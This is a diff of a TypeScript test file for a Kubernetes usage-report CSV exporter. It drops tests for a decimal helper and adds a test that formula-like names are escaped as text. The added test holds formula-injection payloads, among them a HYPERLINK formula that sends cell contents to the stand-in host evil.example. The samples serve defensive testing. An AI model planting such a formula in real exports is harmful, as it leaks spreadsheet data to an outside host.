@@ -2,7 +2,7 @@ import { parse } from 'csv-parse/sync';
 
 import { UsageFigures, UsageReport } from '@kube-monitoring/contract';
 
-import { decimal, usageCsvFileName, usageReportCsv } from './usage-csv';
+import { usageCsvFileName, usageReportCsv } from './usage-csv';
 
 function figures(overrides: Partial<UsageFigures> = {}): UsageFigures {
   return {
@@ -66,25 +66,19 @@ describe('usageReportCsv', () => {
     expect(record).toMatchObject({ namespace: 'a,b', pod: 'say "hi"\nthere' });
   });
 
+  it('should write names that start like a spreadsheet formula as text, in every text column', () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1'];
+    const rows = hostile.map((name) => ({ namespace_name: name, pod_name: name, ...figures() }));
+    const [, ...records] = parse(usageReportCsv(report({ groupBy: 'pod', rows }))) as string[][];
+    expect(records.map((r) => [r[2], r[3]])).toEqual(hostile.map((name) => [`'${name}`, `'${name}`]));
+    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('should write plain decimals, never exponents', () => {
     const [, , second] = usageReportCsv(report()).split('\r\n');
     expect(second).toContain(',0,');
     expect(second).not.toMatch(/e-?\d/i);
     expect(second?.endsWith(',0.25')).toBe(true);
-  });
-});
-
-describe('decimal', () => {
-  it.each([
-    [12.5, '12.5'],
-    [3, '3'],
-    [0.000001, '0.000001'],
-    [0.0000004, '0'],
-    [1234567.1234564, '1234567.123456'],
-    [-0, '0'],
-    [Number.NaN, '0'],
-  ])('should write %p as %p', (value, text) => {
-    expect(decimal(value)).toBe(text);
   });
 });
 
